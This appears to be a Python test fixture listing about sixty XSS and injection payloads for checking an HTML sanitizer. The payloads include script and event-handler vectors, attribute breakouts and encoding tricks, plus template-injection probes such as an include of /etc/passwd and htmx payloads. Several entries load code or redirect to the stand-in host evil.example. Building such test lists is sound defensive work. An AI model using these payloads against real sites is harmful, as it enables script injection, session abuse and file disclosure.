"""Sixty texts that would like to be something else: markup, attributes, addresses, templates, htmx."""

CHARGES = (
    # Elements
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>@import'//evil.example';</style>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button>RÉGLER</button>", "<a href=javascript:alert(1)>ici</a>",
    # Out of where one stands
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)",
    "` onclick=alert(1) `", "\" autofocus onfocus=alert(1) x=\"", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
    "--><svg onload=alert(1)>",
    "]]><script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>", "\\\"><script>alert(1)</script>",
    # Twice written, other alphabets
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞", "<scr\u200bipt>alert(1)</scr\u200bipt>", "\u202e>tpircs/<)1(trela>tpircs<",
    # Addresses
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example",
    # Templates and htmx
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}#{7*7}",
    "<div hx-get='//evil.example' hx-trigger=load></div>", "<div data-hx-on:load='alert(1)' data-hx-get=/x></div>",
    "\" data-hx-get=\"/deconnexion\" data-hx-trigger=\"load\" x=\"",
)  # fmt: skip
